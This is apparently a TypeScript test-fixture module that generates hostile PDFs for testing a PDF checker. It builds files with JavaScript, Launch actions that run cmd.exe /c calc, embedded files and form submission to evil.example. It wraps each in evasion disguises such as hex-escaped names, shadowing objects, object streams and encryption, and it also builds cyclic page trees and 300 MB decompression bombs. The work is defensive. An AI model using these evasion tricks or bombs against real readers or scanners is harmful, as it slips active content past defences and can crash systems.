import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import { packedSpaces } from "./hostile-files";
import { type PdfObject, pdf, textLines } from "./pdf-builder";

/** What a PDF does beside being shown: entries of its catalog and its page, and the objects (from 6) they name. */
type Act = { catalog?: string; page?: string; objects?: PdfObject[] };

const js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /A ${action} >>]`;
const annotation = (subtype: string, more: string) =>
  `/Annots [<< /Type /Annot /Subtype /${subtype} /Rect [50 50 200 80] ${more} >>]`;
const attachment: PdfObject[] = [
  "<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>",
  { dictionary: "/Type /EmbeddedFile", stream: Buffer.from("MZ not a program") },
];
const button = (action: string): Act => ({
  catalog: "/AcroForm << /Fields [6 0 R] >>",
  page: "/Annots [6 0 R]",
  objects: [
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [50 50 200 80] /P 3 0 R /MK << /CA (Go) >> /A ${action} >>`,
  ],
});

const ACTS: Record<string, Act> = {
  "a script when it opens": { catalog: `/OpenAction ${js}` },
  "a script named by its catalog": { catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` },
  "a script when a page is shown": { page: `/AA << /O ${js} >>` },
  "a script behind a link": { page: link(js) },
  "a script behind a button": button(js),
  "a program when it opens": { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" },
  "a program behind a link": { page: link("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>") },
  "an attached program": {
    catalog: "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
    objects: attachment,
  },
  "a program pinned to a page": { page: annotation("FileAttachment", "/FS 6 0 R"), objects: attachment },
  "a form of the older kind": {
    catalog: "/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>",
    objects: [{ dictionary: "", stream: Buffer.from("<template><script>app.alert(1)</script></template>") }],
  },
  "rich media": {
    page: annotation("RichMedia", "/RichMediaContent << /Assets << /Names [(a) 6 0 R] >> >>"),
    objects: attachment,
  },
  "a movie": { page: annotation("Movie", "/Movie << /F (http://evil.example/a.mov) >>") },
  "a sound": {
    page: link("<< /S /Sound /Sound 6 0 R >>"),
    objects: [{ dictionary: "/Type /Sound /R 8000", stream: Buffer.alloc(64) }],
  },
  "a rendition": { page: annotation("Screen", "/A << /S /Rendition /OP 0 /R << /S /MR >> >>") },
  "a form that is sent": button("<< /S /SubmitForm /F (https://evil.example/take) >>"),
  "data that is loaded": button("<< /S /ImportData /F (//evil.example/x.fdf) >>"),
  "another file": { page: link("<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>") },
  "an attachment that is opened": { page: link("<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>") },
  "a web page when it opens": { catalog: "/OpenAction << /S /URI /URI (https://evil.example/) >>" },
  "a web page when a page is shown": { page: "/AA << /O << /S /URI /URI (https://evil.example/) >> >>" },
  "a model in three dimensions": {
    page: annotation("3D", "/3DD 6 0 R"),
    objects: [{ dictionary: "/Type /3D /Subtype /U3D", stream: Buffer.alloc(64) }],
  },
};

/** One page with a line of text, and what is given. */
export function pdfWith({ catalog = "", page = "", objects = [] }: Act): Buffer {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${page} >>`,
    { dictionary: "", stream: Buffer.from(textLines(["Notice of denial", "Claim number 123"])) },
    "<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>",
    ...objects,
  ]);
}

/** Every name with its first vowel as a number, as those write it who hide it. */
const disguised = (text: string) =>
  text.replace(
    /\/(?=[A-Z])(\w*?)([aeiou])/g,
    (_, before: string, vowel: string) => `/${before}#${vowel.charCodeAt(0).toString(16)}`,
  );
const disguise = ({ catalog = "", page = "", objects = [] }: Act): Act => ({
  catalog: disguised(catalog),
  page: disguised(page),
  objects: objects.map((object) =>
    typeof object === "string" ? disguised(object) : { ...object, dictionary: disguised(object.dictionary) },
  ),
});

/** Objects that say nothing stand behind those that act, and the table still names the ones before. */
function shadowed(bytes: Buffer): Buffer {
  const text = bytes.toString("latin1");
  const table = text.slice(text.lastIndexOf("xref\n0 "), text.lastIndexOf("startxref"));
  const harmless = [
    "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n",
    "6 0 obj\nnull\nendobj\n",
  ].join("");
  const start = text.length + harmless.length;
  return Buffer.from(`${text}${harmless}${table}startxref\n${start}\n%%EOF\n`, "latin1");
}

async function rewritten(bytes: Buffer, how: "packed" | "locked"): Promise<Buffer> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  if (how === "locked") document.encrypt({ userPassword: "", ownerPassword: "other" });
  return Buffer.from(await document.save({ useObjectStreams: how === "packed" }));
}

/** Each act in five disguises. */
export async function actingPdfs(): Promise<{ name: string; bytes: Buffer }[]> {
  const files = [];
  for (const [what, act] of Object.entries(ACTS)) {
    const plain = pdfWith(act);
    files.push(
      { name: `${what}, plainly`, bytes: plain },
      { name: `${what}, spelled in numbers`, bytes: pdfWith(disguise(act)) },
      { name: `${what}, behind harmless objects`, bytes: shadowed(plain) },
      { name: `${what}, in an object stream`, bytes: await rewritten(plain, "packed") },
      { name: `${what}, locked against changes`, bytes: await rewritten(plain, "locked") },
    );
  }
  return files;
}

const page = (more = "") => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${more} >>`;
const tree = (pages: string, ...more: PdfObject[]) =>
  pdf(["<< /Type /Catalog /Pages 2 0 R >>", pages, ...more]);

/** PDFs whose pages are not there, or are there without end. */
export function pagelessPdfs(): { name: string; bytes: Buffer }[] {
  const shapes: [string, Buffer][] = [
    ["no pages", tree("<< /Type /Pages /Kids [] /Count 0 >>")],
    ["no page tree", pdf(["<< /Type /Catalog >>", "null"])],
    ["a number for a page tree", tree("7")],
    ["a tree that is itself", tree("<< /Type /Pages /Kids [2 0 R] /Count 3 >>")],
    ["a tree with itself behind a page", tree("<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 9 >>", page())],
    [
      "two trees of each other",
      tree(
        "<< /Type /Pages /Kids [3 0 R] /Count 5 >>",
        "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 5 >>",
      ),
    ],
    ["a last page that is not there", tree("<< /Type /Pages /Kids [3 0 R 9 0 R] /Count 2 >>", page())],
    ["a last page that is text", tree("<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>", page(), "(a page)")],
    ["more pages than there are", tree("<< /Type /Pages /Kids [3 0 R] /Count 900 >>", page())],
    ["a negative number of pages", tree("<< /Type /Pages /Kids [] /Count -4 >>")],
    ["a catalog that is its tree", pdf(["<< /Type /Catalog /Pages 1 0 R >>"])],
  ];
  return shapes.map(([name, bytes]) => ({ name, bytes }));
}

/** What 300 MB of one byte packs to; the same for all that need it. */
let packed: Buffer | undefined;
const muchOfNothing = () => {
  packed ??= packedSpaces(300);
  return packed;
};

/** Streams of every kind that unpack to hundreds of megabytes. */
export function packedBombs(): { name: string; bytes: Buffer }[] {
  const bomb = (dictionary: string, stream = muchOfNothing()) => ({
    dictionary: `/Filter /FlateDecode ${dictionary}`,
    stream,
  });
  const twice = { dictionary: "/Filter [/FlateDecode /FlateDecode]", stream: deflateSync(muchOfNothing()) };
  const places: [string, Act][] = [
    ["what a page draws", { page: "/Contents 6 0 R", objects: [bomb("")] }],
    ["metadata", { catalog: "/Metadata 6 0 R", objects: [bomb("/Type /Metadata /Subtype /XML")] }],
    ["objects", { objects: [bomb("/Type /ObjStm /N 1 /First 4")] }],
    ["a form", { page: "/X 6 0 R", objects: [bomb("/Type /XObject /Subtype /Form /BBox [0 0 9 9]")] }],
    [
      "an attachment",
      {
        catalog: "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>",
        objects: [bomb("")],
      },
    ],
    ["a table of references", { objects: [bomb("/Type /XRef /W [1 2 1] /Size 9")] }],
    ["something twice packed", { page: "/X 6 0 R", objects: [twice] }],
  ];
  return places.map(([name, act]) => ({ name, bytes: pdfWith(act) }));
}

/** A number of bytes that always are the same. */
export const noise = (seed: string, length: number): Buffer => {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, at) =>
    createHash("sha256").update(`${seed} ${at}`).digest(),
  );
  return Buffer.concat(blocks).subarray(0, length);
};
